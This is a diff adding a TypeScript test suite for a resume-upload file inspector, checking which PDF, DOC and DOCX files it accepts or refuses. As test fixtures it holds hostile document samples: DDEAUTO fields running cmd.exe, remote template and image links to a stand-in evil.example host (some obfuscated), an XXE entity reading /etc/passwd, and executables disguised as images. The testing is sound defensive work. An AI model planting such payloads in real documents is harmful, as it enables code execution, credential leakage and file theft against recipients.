@@ -1,0 +1,352 @@
+import { readFileSync } from "node:fs";
+import { describe, expect, it } from "vitest";
+import { inspectFile } from "../../../../../server/jobs/file-checks/inspect/inspect-file.ts";
+import { MACRO_WORD, sampleArchive, sampleDoc, sampleDocx, samplePdf } from "./sample-documents.ts";
+import {
+  documentWith,
+  docxWith,
+  field,
+  fromGoogleDocs,
+  fromLibreOffice,
+  fromPages,
+  fromWord,
+  fromWordForMac,
+  inUtf16,
+  outside,
+  relationships,
+} from "./sample-resumes.ts";
+
+const sound = { verdict: "sound" };
+const refused = (fault: string, reason: string) => ({ verdict: "refused", fault, reason });
+const inspect = (name: string, bytes: Buffer) => inspectFile(`1736500000000_${name}`, bytes);
+
+const lockedPdf = (kind: string): Buffer =>
+  readFileSync(new URL(`../../site/model/resume-check/locked/${kind}.pdf`, import.meta.url));
+
+/** A DOC whose text, or header, has these bytes. */
+function docWith(content: string, flags = 0): Buffer {
+  const stream = Buffer.alloc(5_000, " ");
+  stream.writeUInt16LE(flags, 10);
+  stream.write(content, 100, "latin1");
+  return sampleDoc({ WordDocument: stream });
+}
+
+describe("a resume's file", () => {
+  it.each([
+    ["cv.pdf", samplePdf()],
+    ["CV.PDF", samplePdf()],
+    ["cv.doc", sampleDoc("WordDocument", "1Table")],
+    ["cv.docx", sampleDocx()],
+    ["cv.doc", sampleDocx()],
+  ])("is sound when it is built as its name says: %s", async (name, bytes) => {
+    expect(await inspect(name, bytes)).toEqual(sound);
+  });
+
+  it.each([
+    ["Word", fromWord()],
+    ["Word with a template beside it", fromWord("Resume.dotx")],
+    ["Word with a template on its disk", fromWord("C:\\Users\\Kim\\Resume.dotx")],
+    ["Word of 2008 for Mac", fromWord("Macintosh HD:Users:kim:Resume.dotx")],
+    ["Word for Mac", fromWordForMac()],
+    ["Pages", fromPages()],
+    ["LibreOffice", fromLibreOffice()],
+    ["Google Docs", fromGoogleDocs()],
+    ["a generator that writes UTF-16", inUtf16()],
+    ["a generator that writes backslashes", renamed(fromPages(), "word/", "word\\")],
+    ["a transfer that adds zeros", Buffer.concat([fromWord(), Buffer.alloc(3_000)])],
+  ])("is sound as %s writes it", async (_program, bytes) => {
+    expect(await inspect("cv.docx", bytes)).toEqual(sound);
+  });
+
+  it.each([
+    ["a byte order mark before it", Buffer.concat([Buffer.from("efbbbf", "hex"), samplePdf()])],
+    ["a line break before it", Buffer.concat([Buffer.from("\r\n"), samplePdf()])],
+    ["other bytes before it", Buffer.concat([Buffer.alloc(900, " "), samplePdf()])],
+    ["zeros after it", Buffer.concat([samplePdf(), Buffer.alloc(3_000)])],
+    ["printing not allowed", lockedPdf("rc4-128-open")],
+    ["printing not allowed by a newer program", lockedPdf("aes-256-open")],
+  ])("is sound as a PDF with %s", async (_what, bytes) => {
+    expect(await inspect("cv.pdf", bytes)).toEqual(sound);
+  });
+
+  it.each([
+    ["a program", "cv.pdf", Buffer.from("MZ\x90\0program"), 'It is not what .pdf says: it begins with "MZ".'],
+    ["an empty file", "cv.pdf", Buffer.alloc(0), "It is empty."],
+    ["one that is too large", "cv.pdf", Buffer.alloc(10 * 1_048_576 + 1), "It is larger than 10 MB."],
+    ["a page", "cv.html", Buffer.from("<script>"), "It is called .html, not .pdf, .doc or .docx."],
+    ["half a PDF", "cv.pdf", Buffer.from("%PDF-1.7\nhalf"), "It is a PDF that does not open."],
+    ["a PDF called DOCX", "cv.docx", samplePdf(), 'It is not what .docx says: it begins with "%PDF".'],
+    ["RTF", "cv.doc", Buffer.from("{\\rtf1 Dear all}"), "It is RTF, not a Word document."],
+    ["half a DOC", "cv.doc", sampleDoc("WordDocument").subarray(0, 600), "It is a DOC that does not open."],
+    [
+      "a workbook",
+      "cv.doc",
+      sampleDoc("Workbook"),
+      "It is an Office file of another kind, not a Word document.",
+    ],
+    [
+      "half a DOCX",
+      "cv.docx",
+      Buffer.concat([sampleDocx().subarray(0, 300), Buffer.from("word/")]),
+      "It is a DOCX that does not open.",
+    ],
+    [
+      "an archive",
+      "cv.docx",
+      sampleArchive({ "a.txt": Buffer.from("a") }),
+      "It is an archive, not a Word document.",
+    ],
+    [
+      "a slide show",
+      "cv.docx",
+      sampleDocx({}, "presentationml"),
+      "It is an Office file of another kind, not a Word document.",
+    ],
+    [
+      "one with two parts of one name",
+      "cv.docx",
+      renamed(docxWith({ "word/documenU.xml": documentWith("") }), "documenU", "documenT"),
+      "It has two parts of one name.",
+    ],
+    [
+      "one that unpacks to too much",
+      "cv.docx",
+      sampleDocx({
+        "word/media/a.bmp": Buffer.alloc(60_000_000),
+        "word/media/b.bmp": Buffer.alloc(60_000_000),
+      }),
+      "It unpacks to more than 100 MB.",
+    ],
+  ])("is refused when it is %s", async (_name, path, bytes, reason) => {
+    expect(await inspect(path, bytes)).toEqual(refused("unreadable", reason));
+  });
+
+  it.each([
+    ["cv.pdf", lockedPdf("rc4-40-locked")],
+    ["cv.pdf", lockedPdf("aes-256-locked")],
+    ["cv.doc", docWith("", 0x0100)],
+    ["cv.docx", sampleDoc("EncryptedPackage", "EncryptionInfo")],
+  ])("is refused when it asks for a password: %s", async (path, bytes) => {
+    expect(await inspect(path, bytes)).toEqual(refused("locked", "It asks for a password."));
+  });
+
+  it.each([
+    ["macros", "cv.doc", sampleDoc("WordDocument", "Macros/VBA/dir"), "It contains macros."],
+    [
+      "an embedded object",
+      "cv.doc",
+      sampleDoc("WordDocument", "ObjectPool/_1234/\u0001Ole10Native"),
+      "It contains an embedded object.",
+    ],
+    [
+      "a DDE field",
+      "cv.doc",
+      docWith('\u0013 DDEAUTO c:\\\\windows "calc"\u0014'),
+      "It contains a field that loads from other programs.",
+    ],
+    ["macros", "cv.docx", sampleDocx({ "word/vbaProject.bin": Buffer.alloc(9) }), "It contains macros."],
+    ["macros by its type", "cv.docx", sampleDocx({}, MACRO_WORD), "It contains macros."],
+  ])("is refused when it has %s: %s", async (_what, path, bytes, reason) => {
+    expect(await inspect(path, bytes)).toEqual(refused("active", reason));
+  });
+
+  const DOCUMENT = "word/_rels/document.xml.rels";
+  const SETTINGS = "word/_rels/settings.xml.rels";
+  const STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships";
+  const MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships";
+  const elsewhere = (what: string): string => `It loads ${what} from elsewhere.`;
+  it.each<[string, Record<string, Buffer>, string]>([
+    [
+      "an OLE object",
+      { [DOCUMENT]: relationships({ type: "oleObject", target: "embeddings/oleObject1.bin" }) },
+      "It contains an embedded object.",
+    ],
+    [
+      "an OLE object by the names of strict documents",
+      { [DOCUMENT]: relationships({ type: `${STRICT}/oleObject`, target: "a.bin" }) },
+      "It contains an embedded object.",
+    ],
+    [
+      "a program in a package",
+      { [DOCUMENT]: relationships({ type: "package", target: "embeddings/setup.exe" }) },
+      "It contains an embedded file.",
+    ],
+    [
+      "an OLE container under another name",
+      { "word/media/image1.png": Buffer.from("d0cf11e0a1b11ae1", "hex") },
+      "It contains an embedded file.",
+    ],
+    [
+      "a program under another name",
+      { "word/media/image1.png": Buffer.from("MZ\x90") },
+      "It contains an embedded file.",
+    ],
+    [
+      "an ActiveX control",
+      { [DOCUMENT]: relationships({ type: "control", target: "activeX/activeX1.xml" }) },
+      "It contains an ActiveX control.",
+    ],
+    [
+      "the data of an ActiveX control",
+      {
+        "word/activeX/_rels/activeX1.xml.rels": relationships({
+          type: `${MICROSOFT}/activeXControlBinary`,
+          target: "a.bin",
+        }),
+      },
+      "It contains an ActiveX control.",
+    ],
+    [
+      "macros under another name",
+      { [DOCUMENT]: relationships({ type: `${MICROSOFT}/vbaProject`, target: "a.bin" }) },
+      "It contains macros.",
+    ],
+    [
+      "a document in it",
+      { [DOCUMENT]: relationships({ type: "aFChunk", target: "a.rtf" }) },
+      "It contains an embedded file.",
+    ],
+    [
+      "a template of a web server",
+      { [SETTINGS]: outside("attachedTemplate", "https://evil.example/a.dotm") },
+      elsewhere("a template"),
+    ],
+    [
+      "a template of a share",
+      { [SETTINGS]: outside("attachedTemplate", "\\\\evil.example\\a\\a.dotm") },
+      elsewhere("a template"),
+    ],
+    [
+      "a template of a share, by file:",
+      { [SETTINGS]: outside("attachedTemplate", "file:///\\\\evil.example\\a.dotm") },
+      elsewhere("a template"),
+    ],
+    [
+      "a template of a host",
+      { [SETTINGS]: outside("attachedTemplate", "file://evil.example/a.dotm") },
+      elsewhere("a template"),
+    ],
+    [
+      "a template that hides its address",
+      { [SETTINGS]: outside("attachedTemplate", " &#x68;ttps://evil.example/a.dotm") },
+      elsewhere("a template"),
+    ],
+    [
+      "a template that encodes its address",
+      { [SETTINGS]: outside("attachedTemplate", "file:///%5C%5Cevil.example%5Ca.dotm") },
+      elsewhere("a template"),
+    ],
+    [
+      "a template whose part is written otherwise",
+      {
+        [SETTINGS]: Buffer.from(
+          `\ufeff${outside("attachedTemplate", "http://evil.example/a")
+            .toString("utf8")
+            .replace(/ encoding="UTF-8"/, "")
+            .replaceAll('"', "'")
+            .replace(/<Relationship(?=s?\b)/g, "<é:Relationship")}`,
+          "utf16le",
+        ),
+      },
+      elsewhere("a template"),
+    ],
+    [
+      "a picture of a web server",
+      { [DOCUMENT]: outside("image", "http://evil.example/a.png") },
+      elsewhere("a picture"),
+    ],
+    [
+      "a picture of a share",
+      { [DOCUMENT]: outside("image", "\\\\evil.example\\a.png") },
+      elsewhere("a picture"),
+    ],
+    [
+      "an OLE object elsewhere",
+      { [DOCUMENT]: outside("oleObject", "file:///C:\\a.docx") },
+      "It contains an embedded object.",
+    ],
+    [
+      "a frame",
+      { "word/_rels/webSettings.xml.rels": outside("frame", "\\\\evil.example\\a.docx") },
+      elsewhere("a part"),
+    ],
+    ["a subdocument", { [DOCUMENT]: outside("subDocument", "a.docx") }, elsewhere("a part")],
+    [
+      "a picture of a share in an older drawing",
+      {
+        "word/header1.xml": documentWith(
+          '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\evil.example\\a.png"/>',
+        ),
+      },
+      elsewhere("a picture"),
+    ],
+    [
+      "a DDE field",
+      {
+        "word/document.xml": documentWith(
+          field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "),
+        ),
+      },
+      "It contains a field that loads from other programs (DDEAUTO).",
+    ],
+    [
+      "a DDE field in pieces",
+      { "word/footer1.xml": documentWith(field(" D", "D", "<!-- -->E", " excel ")) },
+      "It contains a field that loads from other programs (DDE).",
+    ],
+    [
+      "a DDE field in one element",
+      { "word/document.xml": documentWith("<w:fldSimple w:instr='DDE excel \"a\"'/>") },
+      "It contains a field that loads from other programs (DDE).",
+    ],
+    [
+      "a DDE field within another field",
+      {
+        "word/document.xml": documentWith(
+          field(' IF 1 = 1 "').replace("<w:t>shown</w:t>", field("dde excel")),
+        ),
+      },
+      "It contains a field that loads from other programs (dde).",
+    ],
+    [
+      "a text of a share",
+      {
+        "word/document.xml": documentWith(field(" INCLUDETEXT &quot;\\\\\\\\evil.example\\\\a.docx&quot; ")),
+      },
+      "It contains a field that loads from the network.",
+    ],
+    [
+      "entities in a part",
+      {
+        "word/document.xml": Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
+      },
+      "It declares entities, which no program for documents writes.",
+    ],
+    [
+      "entities in the list of its parts",
+      {
+        "[Content_Types].xml": Buffer.from('<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "b">]><Types/>'),
+      },
+      "It declares entities, which no program for documents writes.",
+    ],
+    [
+      "entities in a part in UTF-16",
+      { "word/styles.xml": Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "c">]><a/>', "utf16le") },
+      "It declares entities, which no program for documents writes.",
+    ],
+    [
+      "entities in a part of another name",
+      { "word/a.dat": Buffer.from('  <!DOCTYPE a [<!ENTITY b "c">]><a/>') },
+      "It declares entities, which no program for documents writes.",
+    ],
+  ])("is refused when it has %s", async (_what, parts, reason) => {
+    expect(await inspect("cv.docx", docxWith(parts))).toEqual(refused("active", reason));
+  });
+});
+
+/** The same archive with other names of its parts; names are not compressed. */
+function renamed(archive: Buffer, from: string, to: string): Buffer {
+  const text = archive.toString("latin1");
+  if (!text.includes(from)) throw new Error(`No part is called ${from}`);
+  return Buffer.from(text.replaceAll(from, to), "latin1");
+}
